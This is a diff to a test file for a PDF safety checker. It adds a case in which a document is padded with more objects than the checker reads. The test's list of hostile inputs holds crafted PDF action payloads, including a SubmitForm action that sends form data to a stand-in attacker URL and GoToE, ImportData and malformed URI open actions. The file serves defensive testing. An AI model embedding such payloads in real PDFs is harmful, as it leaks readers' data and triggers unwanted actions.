@@ -3,7 +3,7 @@ import PDFDocument from 'pdfkit';
 import { describe, expect, it } from 'vitest';
 import { pdf, png } from '../../test/documents';
 import { createPdf, pdfBytes } from '../pdf';
-import { isSafeCompletePdf } from './pdf-check';
+import { isSafeCompletePdf, PDF_MAX_OBJECTS } from './pdf-check';
 import { ascii85, asciiHex, lzw, runLength } from './pdf-filters';
 
 /**
@@ -92,6 +92,7 @@ const hostile: [string, () => Buffer | Promise<Buffer>][] = [
   ['a GoToE action', () => pdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>' })],
   ['a SubmitForm action', () => pdf({ extra: '7 0 obj << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >> endobj' })],
   ['an ImportData action', () => pdf({ extra: '7 0 obj << /S /ImportData /F (data.fdf) >> endobj' })],
+  ['more objects than the check reads', () => pdf({ extra: Array.from({ length: PDF_MAX_OBJECTS }, (_, i) => `${i + 10} 0 obj null endobj`).join('\n') })],
   ['an open action the check cannot read', () => pdf({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/ >>' })],
 ];
 
